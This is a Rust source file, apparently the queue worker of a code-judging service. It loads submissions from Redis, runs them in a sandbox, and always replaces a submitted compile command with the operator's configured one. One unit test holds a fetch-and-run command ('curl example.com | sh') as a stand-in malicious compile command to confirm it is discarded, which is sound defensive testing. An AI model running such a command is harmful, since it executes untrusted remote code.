mod config;

use config::WorkerConfig;
use std::sync::Arc;
use tokio::signal;
use tokio::sync::Semaphore;
use tracing::{error, info, instrument, warn};
use verdict_common::redis;
use verdict_common::types::Submission;
use verdict_sandbox::config::{LanguageConfigManager, ResourceLimits, SandboxSettings};
use verdict_sandbox::executor::Executor;
use verdict_sandbox::isolate::IsolateCli;
use verdict_sandbox::slots::SlotAllocator;
use verdict_sandbox::store::{RedisStore, SubmissionStore};

fn init_tracing(json: bool) {
    let filter = tracing_subscriber::EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| tracing_subscriber::EnvFilter::new("info"));

    if json {
        tracing_subscriber::fmt()
            .json()
            .with_env_filter(filter)
            .with_thread_ids(true)
            .with_line_number(true)
            .init();
    } else {
        tracing_subscriber::fmt()
            .with_env_filter(filter)
            .with_target(false)
            .with_thread_ids(true)
            .with_line_number(true)
            .init();
    }
}

#[tokio::main]
async fn main() -> anyhow::Result<()> {
    let config = WorkerConfig::from_env()?;
    init_tracing(config.json_logs);

    info!("Verdict Worker booting...");

    let languages = LanguageConfigManager::load(&config.languages_path).map_err(|e| {
        error!("Failed to load language configurations: {}", e);
        error!("Make sure {} exists", config.languages_path.display());
        e
    })?;
    info!("Loaded language configurations for: {:?}", languages.list_languages());

    let limits = ResourceLimits::from_env()?;
    let settings = SandboxSettings::from_env()?;
    info!(limits = ?limits, settings = ?settings, "Sandbox configured");

    let client = ::redis::Client::open(config.redis_url.as_str())?;
    let mut redis_conn = ::redis::aio::ConnectionManager::new(client).await?;
    info!("Connected to Redis: {}", config.redis_url);

    let store = Arc::new(RedisStore::new(redis_conn.clone()));
    let slots = Arc::new(SlotAllocator::new(settings.slot_strategy)?);
    let executor = Arc::new(Executor::new(
        Arc::new(IsolateCli::new(settings)),
        limits,
        slots,
        store.clone(),
    )?);
    let permits = Arc::new(Semaphore::new(config.concurrency));

    let shutdown = async {
        signal::ctrl_c().await.expect("failed to install CTRL+C signal handler");
        warn!("Received shutdown signal, waiting for in-flight submissions...");
    };

    tokio::select! {
        _ = worker_loop(&mut redis_conn, store, executor, Arc::new(languages), permits.clone()) => {},
        _ = shutdown => {},
    }

    // Every permit back means every spawned submission has finished
    let _drained = permits.acquire_many(config.concurrency as u32).await?;

    info!("Worker shutdown complete");
    Ok(())
}

#[instrument(skip_all)]
async fn worker_loop(
    redis_conn: &mut ::redis::aio::ConnectionManager,
    store: Arc<RedisStore>,
    executor: Arc<Executor>,
    languages: Arc<LanguageConfigManager>,
    permits: Arc<Semaphore>,
) -> anyhow::Result<()> {
    loop {
        // Only take work there is capacity for
        let permit = permits.clone().acquire_owned().await?;

        // BLPOP with 5 second timeout for graceful shutdown
        match redis::pop_submission(redis_conn, 5.0).await {
            Ok(Some(id)) => {
                info!(submission_id = id, "Received submission");
                let store = store.clone();
                let executor = executor.clone();
                let languages = languages.clone();
                tokio::spawn(async move {
                    let _permit = permit;
                    process(id, store.as_ref(), &executor, &languages).await;
                });
            }
            Ok(None) => {
                // Timeout - check for shutdown
                continue;
            }
            Err(e) => {
                error!(error = %e, "Redis error");
                tokio::time::sleep(tokio::time::Duration::from_secs(1)).await;
            }
        }
    }
}

/// Replace the record's language with the operator's configuration of the
/// same name; compile commands never come from the queue
fn resolve_language(
    languages: &LanguageConfigManager,
    submission: &mut Submission,
) -> anyhow::Result<()> {
    let spec = languages.get(&submission.language.name)?;
    submission.language = spec.clone();
    Ok(())
}

async fn process(
    id: u64,
    store: &dyn SubmissionStore,
    executor: &Executor,
    languages: &LanguageConfigManager,
) {
    let mut submission = match store.load(id).await {
        Ok(Some(submission)) => submission,
        Ok(None) => {
            warn!(submission_id = id, "Submission record not found; skipping");
            return;
        }
        Err(e) => {
            error!(submission_id = id, error = %e, "Failed to load submission");
            return;
        }
    };

    if submission.is_finished() {
        warn!(submission_id = id, state = ?submission.state, "Submission already finished; skipping");
        return;
    }

    if let Err(e) = resolve_language(languages, &mut submission) {
        error!(submission_id = id, error = %e, "Unsupported language");
        submission.mark_failed(e.to_string());
        if let Err(e) = store.save(&submission).await {
            error!(submission_id = id, error = %e, "Failed to persist submission");
        }
        return;
    }

    let start = std::time::Instant::now();
    let judged = executor.judge(submission).await;
    info!(
        submission_id = id,
        verdict = ?judged.verdict,
        status_id = judged.status_id(),
        time = ?judged.time,
        memory = ?judged.memory,
        elapsed_ms = start.elapsed().as_millis() as u64,
        "Submission judged"
    );
}

#[cfg(test)]
mod tests {
    use super::*;
    use verdict_common::types::LanguageSpec;

    fn languages() -> (tempfile::TempDir, LanguageConfigManager) {
        let dir = tempfile::tempdir().unwrap();
        let path = dir.path().join("languages.json");
        std::fs::write(
            &path,
            r#"{"languages":[{"name":"c","source_file":"main.c","compile_cmd":"/usr/bin/gcc main.c","run_cmd":"./a.out"}]}"#,
        )
        .unwrap();
        let manager = LanguageConfigManager::load(&path).unwrap();
        (dir, manager)
    }

    fn submitted(name: &str, compile_cmd: &str) -> Submission {
        Submission::new(
            1,
            LanguageSpec {
                name: name.to_string(),
                source_file: "main.c".to_string(),
                compile_cmd: Some(compile_cmd.to_string()),
                run_cmd: "./a.out".to_string(),
            },
            "int main(){}",
        )
    }

    #[test]
    fn test_resolve_language_uses_operator_config() {
        let (_dir, languages) = languages();
        let mut submission = submitted("c", "curl example.com | sh");

        resolve_language(&languages, &mut submission).unwrap();

        assert_eq!(
            submission.language.compile_cmd.as_deref(),
            Some("/usr/bin/gcc main.c")
        );
    }

    #[test]
    fn test_resolve_language_rejects_unknown() {
        let (_dir, languages) = languages();
        let mut submission = submitted("cobol", "cobc main.c");

        assert!(resolve_language(&languages, &mut submission).is_err());
        assert_eq!(submission.language.name, "cobol");
    }
}
